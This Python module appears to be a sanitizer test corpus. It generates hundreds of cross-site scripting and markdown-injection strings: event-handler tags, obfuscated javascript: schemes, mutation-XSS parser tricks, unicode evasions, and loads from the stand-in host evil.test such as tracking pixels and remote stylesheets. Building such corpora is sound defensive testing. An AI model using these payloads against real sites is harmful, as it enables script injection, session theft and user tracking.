"""Hostile strings, made family by family: each tries to run pwned(1), to load something, or to change the page."""

from itertools import product

CALL = "pwned(1)"

_TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "iframe",
         "object data=x", "math", "a href=# autofocus tabindex=0", "style", "x-y", "image src=x", "select autofocus"]  # fmt: skip
_EVENTS = ["onload", "onerror", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerenter"]
_QUOTES = ["{e}={c}", "{e}='{c}'", '{e}="{c}"', "/{e}={c}", "\n{e}\n=\n{c}", "\x0c{e}={c}", "{e}=`{c}`", "OnX=1 {e}={c}"]

_SCHEMES = ["javascript:", "JaVaScRiPt:", "java\nscript:", "java\tscript:", " javascript:", "\x01javascript:", "javascript&colon;",
            "javascript&#58;", "&#106;avascript:", "&#x6A&#x61vascript:", "java&#x0A;script:", "java&NewLine;script:",
            "java&Tab;script:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
            "livescript:", "mocha:", "feed:javascript:", "view-source:javascript:", "blob:", "file:///etc/passwd#", "javascript\u200b:",
            "java\u00adscript:", "javascript\ufeff:", "\u2028javascript:", "ｊavascript:", "%6aavascript:", "javascript%3A",
            "\\javascript:", "javascript\\:", "//evil.test/", "/\\evil.test/", "\\\\evil.test\\", "/sign-out?", "?x=", "#x"]  # fmt: skip
_LINKS = ["[x]({u}pwned(1))", "[x](<{u}pwned(1)>)", "[x]({u}pwned%281%29 'title')", "<{u}pwned(1)>", "![x]({u}pwned(1))",
          "[x][r]\n\n[r]: {u}pwned(1)", "[x][r]\n\n[r]: <{u}pwned(1)> \"t\"", '<a href="{u}pwned(1)">x</a>', "<a href={u}pwned(1)>x</a>",
          "<form action='{u}pwned(1)'><button>x</button></form>", "<button formaction={u}pwned(1)>x", "<iframe src='{u}pwned(1)'>"]  # fmt: skip

_CONTEXTS = ["{a}", "> {a}", "- {a}", "1. {a}\n   {a}", "| a |\n|---|\n| {a} |", "# {a}", "**{a}**", "`` {a}", "~~{a}~~", "[{a}](http://a.test)",
             "[x](http://a.test \"{a}\")", "![{a}](http://a.test/p.png)", "<div>\n{a}\n</div>", "```\ncode\n```\n{a}", "[r]: http://a.test '{a}'\n\n[r]",
             "```{a}\ncode\n```", "<!-- {a}", "<http://a.test/{a}>", "http://a.test/{a}", "@amina{a}", "    code\n{a}", "<p title='{a}'>"]  # fmt: skip
_CORE = ["<script>pwned(1)</script>", "<img src=x onerror=pwned(1)>", "\"><svg onload=pwned(1)>", "'><img src=x onerror=pwned(1)>",
         "\" onmouseover=\"pwned(1)", "' autofocus onfocus='pwned(1)", "</p><script>pwned(1)</script>", "javascript:pwned(1)",
         "</code></pre><img src=x onerror=pwned(1)>", "&lt;img src=x onerror=pwned(1)&gt;", "&#60;img src=x onerror=pwned(1)&#62;",
         "\\<img src=x onerror=pwned(1)\\>", "<img src=x onerror=pwned(1)//"]  # fmt: skip

_MUTATIONS = [
    "<svg></p><style><a id=\"</style><img src=x onerror=pwned(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>pwned(1)</script>\">", "<svg><animate xlink:href=#x attributeName=href values=javascript:pwned(1) /><a id=x>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned(1)</script>'>", "<svg><script>pwned&#40;1&#41;</script>", "<svg><script href=data:,pwned(1) />",
    "<svg><set attributeName=onmouseover to=pwned(1)>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=pwned(1)></svg>#x'>",
    "<math href=javascript:pwned(1)>x</math>", "<math><annotation-xml encoding=text/html><style></annotation-xml><img src=x onerror=pwned(1)>",
    "<select><style></select><img src=x onerror=pwned(1)>", "<table><td><style></table><img src=x onerror=pwned(1)>",
    "<title><img title=\"</title><img src=x onerror=pwned(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=pwned(1)>\">",
    "<xmp><img title='</xmp><img src=x onerror=pwned(1)>'>", "<listing>&lt;img src=x onerror=pwned(1)&gt;</listing>", "<plaintext><img src=x onerror=pwned(1)>",
    "<template><img src=x onerror=pwned(1)></template>", "<iframe srcdoc='&lt;script&gt;parent.pwned(1)&lt;/script&gt;'>", "<object data='data:text/html,<script>pwned(1)</script>'>",
    "<embed src='data:image/svg+xml,<svg onload=pwned(1)>'>", "<base href=//evil.test/><a href=x>x</a>", "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import'//evil.test/x.css';</style>", "<div style='background:url(//evil.test/x)'>", "<p style=animation-name:x onanimationstart=pwned(1)>",
    "<img src=//evil.test/track.png>", "![x](//evil.test/track.png)", "![x](http://evil.test/track.png)", "<video poster=//evil.test/x>", "<input type=image src=//evil.test/x>",
    "<table background=//evil.test/x>", "<isindex action=javascript:pwned(1) type=image>", "<keygen autofocus onfocus=pwned(1)>", "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    "<<script>pwned(1)//<</script>", "<script\x20type=module>pwned(1)</script>", "<script/src=data:,pwned(1)></script>", "<ScRiPt>pwned(1)</sCrIpT>", "<script>pwned(1)", "<script x>pwned(1)</script x>",
    "<script\x0b>pwned(1)</script>", "<img src=x:x onerror\x00=pwned(1)>", "<i\x00mg src=x onerror=pwned(1)>", "<img/src=x/onerror=pwned(1)>", "<img src=\"x\"onerror=pwned(1)>", "<img src=x onerror=\"pwned(1)\"",
    "<!--><img src=x onerror=pwned(1)>-->", "<!---><img src=x onerror=pwned(1)>", "<!--x--!><img src=x onerror=pwned(1)>", "<![CDATA[<img src=x onerror=pwned(1)>]]>", "<?xml <img src=x onerror=pwned(1)>?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=pwned(1)>'>]>&y;", "</title><img src=x onerror=pwned(1)>", "<a data-x hx-get=//evil.test/ hx-trigger=load>x</a>", "<div x-init=pwned(1) v-on:click=pwned(1) ng-init=pwned(1)>",
    "<a href=http://a.test id=main name=body class=hidden>x</a>", "<form id=hooks name=hooks><input name=attributes>", "<a class=mention href=javascript:pwned(1)>@x</a>", "<details ontoggle=pwned(1) open>x</details>",
    "<p dir=rtl lang=x accesskey=x contenteditable onbeforeinput=pwned(1)>x", "<dialog open onclose=pwned(1)>", "<body onpageshow=pwned(1)>", "<frameset onload=pwned(1)>", "<portal src=javascript:pwned(1)>", "<img srcset='//evil.test/x 1x'>",
]  # fmt: skip

_MARKDOWN_TRICKS = [
    "[a](http://a.test\"onmouseover=\"pwned(1))", "[a](http://a.test \"x\" onmouseover=pwned(1)\")", "[a](http://a.test '\"><img src=x onerror=pwned(1)>')",
    "![\"onerror=\"pwned(1)](x)", "![a](x\"onerror=\"pwned(1))", "[a](http://a.test<img/src=x/onerror=pwned(1)>)", "[<img src=x onerror=pwned(1)>][r]\n\n[r]: http://a.test",
    "[![a](javascript:pwned(1))](javascript:pwned(1))", "[a]: javascript:pwned(1)\n[a]", "[a\\](javascript:pwned(1))", "[a](javascript:pwned&#40;1&#41;)", "[a](\\javascript:pwned(1))",
    "<javascript:pwned(1)>", "<JAVASCRIPT:pwned(1)>", "<javascript&#58;pwned(1)>", "<x@y\"onmouseover=pwned(1)>", "<mailto:x@y?body=<script>pwned(1)</script>>", "<a@b.c\" onfocus=\"pwned(1)\" autofocus>",
    "`<img src=x onerror=pwned(1)>` <img src=x onerror=pwned(1)>", "``` <img src=x onerror=pwned(1)>\nx\n```", "```html onload=pwned(1)\nx\n```", "``` {.x onclick=pwned(1)}\nx\n```", "```\"><script>pwned(1)</script>\nx\n```",
    "{: onclick=pwned(1)}\nx", "# x {#id onclick=pwned(1)}", "*[x]: <img src=x onerror=pwned(1)>\nx", "[^1]\n\n[^1]: <img src=x onerror=pwned(1)>", "a | b\n--|--\n<img src=x onerror=pwned(1)> | x",
    "|<script>|\n|---|\n|pwned(1)|\n|</script>|", ":-: | \"><img src=x onerror=pwned(1)>\n:-: | -\nx | y", "\x02wzxhzdk:0\x03<img src=x onerror=pwned(1)>", "\x02klzzwxh:0001\x03 [a](javascript:pwned(1))", "wzxhzdk:0 klzzwxh:0000",
    "http://a.test/\"onmouseover=\"pwned(1)", "http://a.test/'onmouseover='pwned(1)", "http://a.test/<img src=x onerror=pwned(1)>", "http://a.test/&quot;onmouseover=pwned(1)", "www.a.test\"><img src=x onerror=pwned(1)>", "javascript:http://a.test/%0apwned(1)",
    "http://javascript:pwned(1)@a.test/", "@\"onmouseover=pwned(1)", "@a<img src=x onerror=pwned(1)>", "@amina\"onfocus=pwned(1)", "@../../sign-out", "@javascript:pwned(1)", "@a/../../x", "@x%22onfocus=pwned(1)",
    "<b\n\nonclick=pwned(1)>x</b>", "<div\n\n>\n<img src=x\n\nonerror=pwned(1)>", "<a href=\"\n\njavascript:pwned(1)\">x</a>", "> <script>\n> pwned(1)\n> </script>", "- <svg>\n- <script>pwned(1)</script>", "<p>\n```\n</p><img src=x onerror=pwned(1)>\n```",
    "<svg/onload=\u2028pwned(1)>", "＜img src=x onerror=pwned(1)＞", "\u202e<img src=x onerror=pwned(1)>", "<\u200bimg src=x onerror=pwned(1)>", "<img src=x oner\u0301ror=pwned(1)>", "\ufeff<script>pwned(1)</script>", "<ſcript>pwned(1)</ſcript>", "<ımg src=x onerror=pwned(1)>",
    "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-", "\ud83d<img src=x onerror=pwned(1)>", "[x](http://a.test/\ud800)", "%3Cscript%3Epwned(1)%3C/script%3E", "{{7*7}} ${pwned(1)} <%= pwned(1) %>", "$$\\href{javascript:pwned(1)}{x}$$",
    "[x](https://a.test@evil.test/\\\"onclick=pwned(1))", "[x](tel:1) [y](sms:1) [z](intent://x#Intent;end) [w](ms-word:x)", "[x](javascript:123)", "[x](javascript:0)", "<javascript:123>", "[x](a:1) [y](localhost:8000) [z](evil.test:80)",
]  # fmt: skip


def _all() -> list[str]:
    tags = [f"<{tag} {form.format(e=event, c=CALL)}>" for (tag, event), form in zip(list(product(_TAGS, _EVENTS)) * 2, _QUOTES * 64, strict=False)]
    every_form = [f"<img src=x {form.format(e='onerror', c=CALL)}>" for form in _QUOTES]
    links = [link.format(u=scheme) for scheme, link in product(_SCHEMES, _LINKS)]
    placed = [context.format(a=core) for context, core in product(_CONTEXTS, _CORE)]
    return list(dict.fromkeys([*tags, *every_form, *links, *placed, *_MUTATIONS, *_MARKDOWN_TRICKS]))


ATTACKS = _all()
